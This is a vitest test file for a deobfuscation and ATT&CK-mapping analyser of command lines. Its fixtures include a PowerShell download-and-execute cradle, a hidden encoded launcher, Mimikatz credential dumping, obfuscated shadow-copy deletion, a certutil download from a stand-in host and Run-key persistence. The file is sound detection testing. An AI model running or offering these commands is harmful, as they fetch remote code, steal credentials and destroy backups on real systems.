import { gzipSync } from 'node:zlib'
import { expect, test } from 'vitest'
import { analyseScript } from '#engine/assist/script/analyse.ts'

const utf16 = (text: string) => Buffer.from(text, 'utf16le').toString('base64')
const last = (text: string) => analyseScript(text).layers.at(-1)!
const ids = (text: string) => analyseScript(text).techniques.map((technique) => technique.id)

test('an encoded command is read, in whatever beginning of the switch it is given', () => {
  const inner = "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a.ps1')"
  for (const name of ['-enc', '-e', '/EncodedCommand', '–ec', '-encodedc']) {
    const { layers, techniques, indicators } = analyseScript(`powershell.exe -nop -w hidden ${name} ${utf16(inner)}`)
    expect(layers.map((layer) => layer.text)).toContain(inner)
    expect(layers[1]!.how).toBe('-EncodedCommand: base64, read as UTF-16')
    expect(techniques.map((technique) => technique.id)).toEqual(expect.arrayContaining(['T1059.001', 'T1105', 'T1564.003']))
    expect(indicators).toContainEqual({ kind: 'url', value: 'http://203.0.113.9/a.ps1' })
  }
})

test('base64 within base64, packed by gzip, is opened to its last layer', () => {
  const inner = 'Invoke-Mimikatz -DumpCreds; # sekurlsa::logonpasswords'
  const packed = gzipSync(Buffer.from(inner)).toString('base64')
  const outer = `$s=[IO.MemoryStream][Convert]::FromBase64String('${packed}');IEX (New-Object IO.StreamReader(New-Object IO.Compression.GzipStream($s,'Decompress'))).ReadToEnd()`
  const { layers, techniques } = analyseScript(`powershell -enc ${utf16(outer)}`)
  expect(layers.map((layer) => [layer.from, layer.how])).toContainEqual([1, 'base64, gzip unpacked, read as UTF-8'])
  expect(layers.at(-1)!.text).toBe(inner)
  expect(techniques.find((technique) => technique.id === 'T1003.001')).toMatchObject({ layer: layers.length - 1, evidence: 'sekurlsa' })
})

test.each([
  ["('Down'+'load'+'String')", "('DownloadString')"],
  ["('{1}{0}' -f 'Expression','Invoke-')", "'Invoke-Expression')"],
  ["('i','e','x' -join '')", "'iex')"],
  ['[char]105+[char]101+[char]120', "'iex'"],
  ["'ixxe'.Replace('xx','')", "'ie'"],
  ["-join ('XEI')[-1..-3]", "'IEX'"],
])('a hidden word is put together: %s', (written, shown) => {
  expect(last(written).text).toContain(shown.replace(/\)$/, ''))
})

test('carets of cmd.exe are taken out, and what they hid is judged', () => {
  const { layers, techniques } = analyseScript('cmd.exe /c "v^ss^admin de^lete sha^dows /all /quiet"')
  expect(layers.at(-1)!.text).toBe('cmd.exe /c "vssadmin delete shadows /all /quiet"')
  expect(techniques.map((technique) => technique.id)).toContain('T1490')
})

test('programs and switches are explained in words', () => {
  const { switches } = analyseScript('certutil.exe -urlcache -split -f http://bad.example/x.txt C:\\Users\\Public\\x.txt')
  expect(switches.map((one) => one.text)).toEqual(['certutil', '-urlcache', '-split', '-f'])
})

test.each([
  'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE /n "C:\\Users\\kim\\Documents\\Budget 2026.docx"',
  'C:\\Windows\\System32\\svchost.exe -k netsvcs -p -s Schedule',
  '"C:\\Program Files\\Git\\cmd\\git.exe" commit -m "Fix the encoder"',
])('an everyday command line is one layer and speaks of no technique: %s', (line) => {
  const { layers, techniques, notes } = analyseScript(line)
  expect([layers.length, techniques, notes]).toEqual([1, [], []])
})

test('indicators are told once each, wherever in the layers they stand', () => {
  const { indicators } = analyseScript(
    `reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x /d %TEMP%\\x.exe & ping 10.0.0.7 & ping 10.0.0.7`,
  )
  expect(indicators.map((one) => one.kind)).toEqual(['registry', 'path', 'ip'])
  expect(ids('reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x')).toContain('T1547.001')
})

test('what never ends is cut, and the cut is said', () => {
  let text = 'Write-Host done with it'
  for (let i = 0; i < 30; i += 1) text = `powershell -enc ${utf16(`powershell -nop ${text.length > 40_000 ? 'x' : text}`)}`
  const { layers, notes } = analyseScript(`${text} ${'a'.repeat(250_000)}`)
  expect(layers.length).toBeLessThanOrEqual(24)
  expect(notes[0]).toContain('Only the first')
})
